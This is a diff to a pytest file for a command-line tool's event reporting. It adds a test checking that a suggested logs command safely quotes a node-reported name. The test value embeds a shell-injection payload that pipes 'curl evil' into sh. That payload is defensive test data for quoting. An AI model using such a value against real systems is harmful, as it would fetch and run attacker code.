@@ -8,6 +8,7 @@ from typing import Any
 import pytest
 
 from cli.events.command import events
+from cli.events.event import Event
 from cli.events.node_sources import disk_events
 from cli.events.verdicts import RULES, Source, judge
 from cli.result import Json
@@ -149,6 +150,11 @@ def test_scripts_that_a_node_refused_or_could_not_run_are_events(account: FakeOp
     account.bundle("work", 2, "applied", minutes=7)
     assert [rule for *_, rule in found(account)] == ["bundle-refused", "bundle-failed", "bundle"]
     assert "work-1: failed bundle aaaaaaaa: create users: useradd: exit 9" in printed(account)[2]
+
+
+def test_a_command_to_copy_quotes_the_name_that_a_node_reported() -> None:
+    event = Event(NOW, Source.BUNDLE, "failed", "x`; curl evil | sh #", "boom")
+    assert "./hpod logs ml 'x`; curl evil | sh #'`" in event.action("ml")
 
 
 def test_stacks_appear_with_their_own_states_and_the_failures_of_their_resources(account: FakeOperations) -> None:
